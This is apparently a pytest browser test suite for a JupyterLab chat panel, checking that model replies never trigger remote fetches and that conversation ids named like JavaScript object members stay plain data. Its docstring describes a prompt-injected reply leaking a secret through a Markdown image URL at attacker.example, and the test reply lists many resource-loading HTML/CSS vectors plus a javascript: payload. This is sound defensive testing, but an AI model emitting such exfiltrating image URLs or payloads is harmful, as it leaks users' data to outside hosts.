"""The side panel never fetches a remote resource named by model output (SPEC section 8), and treats ids as data.

A prompt-injected reply can write ``![](https://attacker.example/?q=<secret>)``: an image the page loads sends the
URL -- and whatever the model put into it -- to that host. Here the reply comes from a real loopback upstream and
names a second loopback HTTP server that counts every request it gets, in every form a reply can name a resource
after Markdown rendering and sanitizing. "Nothing was fetched" is what that server saw, not what the page says.
"""

from __future__ import annotations

import base64
import json
import struct
import threading
import zlib
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from harness.lab import (  # the two jp_ fixtures switch pytest-jupyter's loop handling off here
    LabProcess,
    browser_available,
    console_of,
    dialogs_seen,
    document_state,
    jp_asyncio_loop,  # noqa: F401
    jp_server_cleanup,  # noqa: F401
    notebook_json,
    open_lab,
    running,
    screenshot,
    upstream_args,
)
from harness.upstream import FakeUpstream, Script
from harness.waiting import wait_until
from tests.test_browser_panel import (
    PANEL,
    VIEWPORT,
    open_panel,
    send_chat,
    set_theme,
    wait_status,
    widen_right_sidebar,
)

pytestmark = [
    pytest.mark.timeout(300),
    pytest.mark.skipif(browser_available() is not None, reason=browser_available() or ""),
]

UPSTREAM_MODELS = ["remote-images"]


def png(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    """A solid ``width`` x ``height`` PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    rows = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


class CountingServer:
    """An HTTP server on 127.0.0.1 that records the path of every request it gets (and answers a PNG)."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        self._lock = threading.Lock()
        body = png(4, 4, (200, 30, 30))
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                with owner._lock:
                    owner.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(body)

            do_GET = do_POST = do_HEAD = _answer  # http.server dispatches on these names

            def log_message(self, format: str, *args: Any) -> None:
                return None

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}/"

    def seen(self) -> list[str]:
        with self._lock:
            return list(self.paths)

    def start(self) -> None:
        self._thread.start()

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


def remote_reply(base: str, data_png: str) -> list[str]:
    """A reply (as streamed text deltas, one Markdown block each) that names ``base`` in every way a reply can."""
    blocks = [
        "Here is the chart you asked for:",
        f"![sales chart]({base}md.png?q=secret-from-the-notebook)",
        # (a definition at the end, after a blank line, is another block: the image then shows as text)
        f"[logo]: {base}ref.png\nReference style: ![logo][logo] and a [plain link]({base}link-not-fetched).",
        f'<img src="{base}raw.png" alt="raw html">',
        f'<img srcset="{base}srcset.png 1x, {base}srcset2.png 2x" alt="srcset only">',
        f'<picture><source srcset="{base}picture.png"><img src="{base}picture-img.png" alt="picture"></picture>',
        f'<video poster="{base}poster.png" src="{base}video.mp4" preload="auto"></video>',
        f'<video preload="auto"><source src="{base}source.mp4" type="video/mp4"></video>',
        f'<audio src="{base}audio.mp3" preload="auto"></audio>',
        f'<input type="image" src="{base}input.png" alt="input">',
        f'<div style="background-image: url({base}css.png); padding: 2px">styled block</div>',
        f'<span style="background: u\\72l({base}css-escaped.png)">escaped url</span>',
        f"<div style=\"list-style-image: url('{base}list.png'); cursor: url({base}cursor.png), auto\">list</div>",
        f'<table background="{base}table.png"><tr><td background="{base}td.png">cell</td></tr></table>',
        f'<link rel="stylesheet" href="{base}style.css"><style>@import url({base}import.css);</style>',
        f'<svg width="10" height="10"><image href="{base}svg.png" width="10" height="10"/></svg>',
        f'<object data="{base}object.png"></object><embed src="{base}embed.png">',
        '<img src="javascript:alert(1)" alt="script">',
        f"Math: $\\style{{background-image: url({base}math.png)}}{{x^2}}$ and $\\href{{{base}math-link}}{{y}}$",
        f"A data image renders: ![dot](data:image/png;base64,{data_png})",
        "That is all.",
    ]
    return [f"{block}\n\n" for block in blocks]


# ----- fixtures --------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def upstream_for_lab() -> Iterator[FakeUpstream]:
    server = FakeUpstream()
    server.start()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def counting_server() -> Iterator[CountingServer]:
    server = CountingServer()
    server.start()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory, upstream_for_lab: FakeUpstream) -> Iterator[LabProcess]:
    process = LabProcess(
        tmp_path_factory.mktemp("lab"), extra_args=upstream_args(upstream_for_lab.openai_base_url, UPSTREAM_MODELS)
    )
    with running(process):
        yield process


# What the reply element shows: every remote-resource notice, the links, and any attribute naming the host.
REPLY_DOM = """
([run, host]) => {
  const article = document.querySelector(`#jp-StreamChat-panel article[data-run-id="${run}"]`);
  const body = article.querySelector('.jp-StreamChat-replyBody');
  const naming = [];
  for (const el of body.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      // A link's href, a tooltip and the notice's own record of the URL load nothing.
      const inert = (el.localName === 'a' && attr.name === 'href') || ['title', 'data-remote-url'].includes(attr.name);
      if (attr.value.includes(host) && !inert) naming.push(`<${el.localName} ${attr.name}="${attr.value}">`);
    }
  }
  const box = el => { const r = el.getBoundingClientRect(); return r.width > 0 && r.height > 0; };
  return {
    text: body.textContent,
    notices: Array.from(body.querySelectorAll('.jp-StreamChat-remoteResource')).map(n => ({
      url: n.dataset.remoteUrl, text: n.textContent, visible: box(n),
      link: n.querySelector('a')?.getAttribute('href') ?? null,
    })),
    links: Array.from(body.querySelectorAll('a[href]')).map(a => a.getAttribute('href')),
    naming,
    dataImages: Array.from(body.querySelectorAll('img[src]')).map(img => ({
      src: img.getAttribute('src').slice(0, 22), loaded: img.complete && img.naturalWidth > 0, visible: box(img),
    })),
    math: body.querySelectorAll('mjx-container').length,
    brokenMedia: Array.from(body.querySelectorAll('img:not([src]), video, audio')).map(el => el.outerHTML),
    resources: performance.getEntriesByType('resource').map(e => e.name).filter(name => name.includes(host)),
  };
}
"""


# ----- tests -----------------------------------------------------------------------------------------------------


def test_a_reply_naming_remote_images_fetches_nothing_and_shows_their_urls(
    lab: LabProcess, upstream_for_lab: FakeUpstream, counting_server: CountingServer, browser: Any
) -> None:
    base = counting_server.base_url
    host = base.removeprefix("http://").rstrip("/")
    data_png = base64.b64encode(png(24, 24, (30, 120, 200))).decode()
    # The reply streams block by block, so remote images pass through the growing tail as well as the final blocks
    upstream_for_lab.script("remote-images", Script.reply(remote_reply(base, data_png), pace=0.05))
    nb = "remote.ipynb"
    lab.write_notebook(nb, "secret = 'from the notebook'")
    context = browser.new_context(viewport=VIEWPORT)
    context.set_default_timeout(60_000)
    try:
        page = open_lab(browser, lab, nb, context=context)
        panel = open_panel(page)

        # When a reply names remote images, media and CSS backgrounds on another host
        run_id = send_chat(page, "Plot the sales", "openai:remote-images")
        wait_status(page, run_id, "completed", 60)

        # Then the data: image renders (the page did load the images it was allowed to)
        dom = wait_until(
            lambda: (
                (d := page.evaluate(REPLY_DOM, [run_id, host]))["dataImages"]
                and all(img["loaded"] for img in d["dataImages"])
                and d
            ),
            30,
            what=lambda: f"the data: image to load: {page.evaluate(REPLY_DOM, [run_id, host])}",
        )
        assert [img["src"] for img in dom["dataImages"]] == ["data:image/png;base64,"], dom["dataImages"]
        assert all(img["visible"] for img in dom["dataImages"])

        # And once the page fetches a sentinel from the counting server itself, the server has seen that request
        # only: nothing the reply named was ever requested
        page.evaluate(
            "url => { const img = new Image(); img.src = url; document.body.appendChild(img); }", base + "sentinel"
        )
        wait_until(lambda: "/sentinel" in counting_server.seen(), 10, what="the sentinel request at the counter")
        assert counting_server.seen() == ["/sentinel"], (
            f"the page fetched what the reply named: {counting_server.seen()}"
        )
        assert dom["resources"] == [], f"the page's resource timing names the host: {dom['resources']}"

        # And nothing in the reply names the host except links, which are not fetched
        assert dom["naming"] == [], f"attributes that still name {host}: {dom['naming']}"

        # And the remote images show as their URL, visibly, an http link the user may follow
        notices = {notice["url"]: notice for notice in dom["notices"]}
        chart = notices.get(f"{base}md.png?q=secret-from-the-notebook")
        assert chart is not None, f"no notice for the Markdown image: {dom['notices']}"
        assert chart["visible"] and chart["link"] == f"{base}md.png?q=secret-from-the-notebook"
        assert 'Image "sales chart" not loaded' in chart["text"] and chart["url"] in chart["text"]
        for name in ("ref.png", "raw.png", "poster.png", "video.mp4", "input.png"):
            assert f"{base}{name}" in notices, f"no notice for {name}: {sorted(notices)}"
        assert f"{base}md.png?q=secret-from-the-notebook" in dom["text"]
        # A javascript: "image" is shown as text, never made a link
        assert notices["javascript:alert(1)"]["link"] is None
        assert not any(link.startswith("javascript:") for link in dom["links"])
        # And links stay links
        assert f"{base}link-not-fetched" in dom["links"]
        assert panel.get_by_role("link", name=f"{base}md.png?q=secret-from-the-notebook").is_visible()
        assert "That is all." in dom["text"]
        # And media left with nothing to load is a notice, not a broken image or an empty player
        assert dom["brokenMedia"] == []
        assert 'Image "srcset only" not loaded' in dom["text"]
        # And math is still typeset (in the inert document, before the reply reaches the page)
        assert dom["math"] == 2, f"typeset math elements: {dom['math']}"
        assert dialogs_seen(page) == []

        shoot_remote_reply(page, run_id)
        assert counting_server.seen() == ["/sentinel"], f"fetched while taking screenshots: {counting_server.seen()}"
    except AssertionError:
        print(console_of(page) if "page" in locals() else "")
        raise
    finally:
        context.close()
        lab.shutdown_kernels()


def shoot_remote_reply(page: Any, run_id: str) -> None:
    """Screenshots of the reply (light and dark; the sidebar as it opens, then widened) into test-artifacts/."""
    page.evaluate("() => window.jupyterapp.shell.collapseLeft()")
    reply = page.locator(f"{PANEL} article[data-run-id='{run_id}']")
    notice = reply.locator(".jp-StreamChat-remoteResource").first
    end = reply.locator("img[src^='data:']")
    shots = []
    try:
        for size in ("narrow", "wide"):
            if size == "wide":
                widen_right_sidebar(page, 760)
            for theme, suffix in (("JupyterLab Light", "light"), ("JupyterLab Dark", "dark")):
                set_theme(page, theme)
                notice.scroll_into_view_if_needed()
                shots.append(screenshot(page, f"panel-remote-images-{size}-{suffix}.png"))
                end.scroll_into_view_if_needed()
                shots.append(screenshot(page, f"panel-remote-images-end-{size}-{suffix}.png"))
    finally:
        set_theme(page, "JupyterLab Light")  # the theme is a user setting: later pages would open dark
    for shot in shots:
        assert shot.stat().st_size > 20_000, f"{shot} looks empty"


# ----- conversation ids are data (SPEC section 4) -----------------------------------------------------------------

OBJECT_MEMBER_NAMES = ["constructor", "toString", "hasOwnProperty"]


def recorded_turn(run: str, created: str, prompt: str) -> dict[str, Any]:
    return {
        "run": run,
        "model": "demo:fast",
        "mode": "detached",
        "prompt": {"role": "user", "content": prompt},
        "reply": {"role": "assistant", "content": f"reply to {prompt}", "status": "completed", "partial": False},
        "created": created,
        "finished": created,
    }


def test_conversations_named_like_object_members_are_shown_and_merged_as_data(lab: LabProcess, browser: Any) -> None:
    # Given a notebook whose conversations are named like members of every JavaScript object
    nb = "members.ipynb"
    conversations = {
        name: {"turns": [recorded_turn(f"old-{name}", f"2024-01-0{i + 1}T00:00:00Z", f"about {name}")]}
        for i, name in enumerate(OBJECT_MEMBER_NAMES)
    }
    notebook = notebook_json("x = 1", {"streamchat": {"version": 1, "conversations": conversations}})
    (lab.root / nb).write_text(json.dumps(notebook, indent=1) + "\n")
    context = browser.new_context(viewport=VIEWPORT)
    context.set_default_timeout(60_000)
    try:
        page = open_lab(browser, lab, nb, context=context)
        prototype = page.evaluate("() => Object.getOwnPropertyNames(Object.prototype).sort()")
        panel = open_panel(page)

        # Then the panel offers each of them as a conversation, with its recorded turn
        select = panel.get_by_label("Conversation", exact=True)
        wait_until(
            lambda: (
                set(OBJECT_MEMBER_NAMES) <= set(select.locator("option").evaluate_all("os => os.map(o => o.value)"))
            ),
            10,
            what=lambda: f"the conversations in the select: {select.inner_html()}",
        )
        select.select_option("constructor")
        wait_until(lambda: "reply to about constructor" in (panel.text_content() or ""), 10)

        # When a run of conversation "constructor" ends while the notebook is open (handed to the open document)
        run_id = lab.start_run(nb, "constructor", prompt="and now?")
        lab.wait_run_finished(run_id)

        # Then the open document has it in "constructor", after the earlier turn; the other conversations are kept
        def turns_of(name: str) -> list[str]:
            section = document_state(page)["streamchat"] or {}
            return [t["run"] for t in section.get("conversations", {}).get(name, {}).get("turns", [])]

        wait_until(
            lambda: turns_of("constructor") == ["old-constructor", run_id],
            30,
            what=lambda: f"the turn in 'constructor': {document_state(page)['streamchat']}\n{console_of(page)}",
        )
        for name in OBJECT_MEMBER_NAMES[1:]:
            assert turns_of(name) == [f"old-{name}"]
        # And the panel shows the new reply in that conversation, and no object of the page gained a member
        wait_until(lambda: reply_count(page, run_id) == 1, 30, what="the new reply in the panel")
        assert page.evaluate("() => Object.getOwnPropertyNames(Object.prototype).sort()") == prototype
        assert page.evaluate("() => ({}).turns === undefined && typeof ({}).constructor === 'function'")
        assert dialogs_seen(page) == []
    finally:
        context.close()
        lab.shutdown_kernels()


def reply_count(page: Any, run_id: str) -> int:
    return int(page.evaluate("run => document.querySelectorAll(`article[data-run-id='${run}']`).length", run_id))
